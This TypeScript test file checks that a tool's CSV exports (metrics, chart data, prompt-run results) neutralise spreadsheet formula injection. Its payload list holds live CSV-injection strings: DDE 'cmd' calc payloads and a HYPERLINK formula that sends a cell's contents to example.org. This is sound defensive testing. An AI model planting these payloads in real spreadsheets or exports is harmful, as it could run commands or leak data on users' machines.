import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { chartCsv } from '../../src/core/finops/chartCsv';
import { resultsCsv } from '../../src/core/prompts/exportRun';
import { PromptRun } from '../../src/core/prompts/runState';
import type { RunEvent, RunHead } from '../../src/protocol/run';
import { invocation } from '../unit/core/metrics/records';
import { all, openStore } from '../unit/core/metrics/worker';

/* The payloads of OWASP's page on CSV injection, full-width forms included, with payloads of public reports. */
const openings = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const payloads = [
  ...openings.map((mark) => `${mark}cmd|' /C calc'!A0`),
  '=HYPERLINK("https://example.org/?leak="&A1,"Total")',
  '-2+3+cmd|x',
  '+1+1',
  '-1e5+A1',
  '@SUM(1+9)*cmd',
  '=1","=2',
  '\t=1+1',
  "x;=cmd|' /C calc'!A0",
  'y\t=1+1',
];
const numbers = ['-12.5', '+3', '-0.000001', '0', '12.345678901234567890123', '-1e-7'];

/** Apostrophes are what defuses. */
const plain = (text: string): string => text.replaceAll("'", '');

/** A spreadsheet takes a cell for a formula by its first character; a plain number it takes for a number. */
function assertInert(csv: string, shown: readonly string[]): void {
  const cells = parse(csv, { relax_column_count: true }).flat();
  for (const cell of cells) {
    if (!Number.isFinite(Number(cell)) || /^\s/.test(cell)) {
      assert.ok(!openings.includes(cell.slice(0, 1)), `A spreadsheet runs ${JSON.stringify(cell)}`);
    }
  }
  for (const text of shown) {
    assert.ok(
      cells.some((cell) => plain(cell) === plain(text)),
      `${JSON.stringify(text)} is lost`,
    );
  }
}

describe('Exported CSV holds nothing that a spreadsheet runs', () => {
  let folder: string;
  beforeEach(() => (folder = mkdtempSync(join(tmpdir(), 'formulas-'))));
  afterEach(() => rmSync(folder, { recursive: true, force: true }));

  it('in the metrics', async function () {
    this.timeout(30_000);
    const journal = join(folder, 'journal');
    mkdirSync(journal);
    const lines = payloads.map((text) => {
      const record = invocation({ model_id: text, inference_profile: text, error_code: text, region: text });
      return `${JSON.stringify({ v: 1, type: 'invocation', ...record, cost_usd: -0.5 })}\n`;
    });
    writeFileSync(join(journal, 'window-1.ndjson'), lines.join(''));
    const { store } = await openStore(folder);
    try {
      const path = join(folder, 'out.csv');
      assert.deepEqual(await store.export(all, '', 'csv', path), { rows: payloads.length });
      assertInert(readFileSync(path, 'utf8'), [...payloads, '-0.5']);
    } finally {
      store.dispose();
    }
  });

  it('in the numbers of a chart', () => {
    const parts = [
      ...payloads.map((name) => ({ name, value: '1' })),
      ...numbers.map((value) => ({ name: 'n', value })),
    ];
    const series = payloads.map((name) => ({ name, parts }));
    const csv = chartCsv({ possible: true, kind: 'bar', label: '=label()', value: '@value', series });
    assertInert(csv, payloads);
    const kept = parse(csv).map(([, , value]) => value);
    for (const value of numbers) {
      assert.ok(kept.includes(value), `${value} is no longer a number`);
    }
  });

  it('in the results of a prompt file', () => {
    const at = '2026-11-20T14:03:22.123Z';
    const head: RunHead = {
      type: 'run',
      version: 1,
      id: '01M7YG8CQSFP289NDD05AEXRAA',
      file: '/a/prompts.txt',
      output: '/r',
      at,
      steps: [...payloads, ...numbers].map((text) => ({ id: text, key: text, model: text, title: text })),
    };
    const events = [...payloads, ...numbers].map((text): RunEvent => {
      const result = {
        text,
        modelId: text,
        modelLabel: 'M',
        invocationId: 'i',
        inputTokens: 3,
        outputTokens: 2,
        costUsd: 0.5,
        latencyMs: 1500,
        stopReason: text,
        failedChecks: [text],
      };
      return { type: 'completed', step: text, at, cachedFrom: null, result };
    });
    const run = new PromptRun(head);
    for (const event of events) {
      run.apply(event);
    }
    const csv = resultsCsv(run);
    assertInert(csv, payloads);
    const answers = parse(csv, { columns: true }) as unknown as Record<string, string>[];
    assert.deepEqual(
      answers.slice(payloads.length).map(({ answer }) => answer),
      numbers,
    );
  });
});
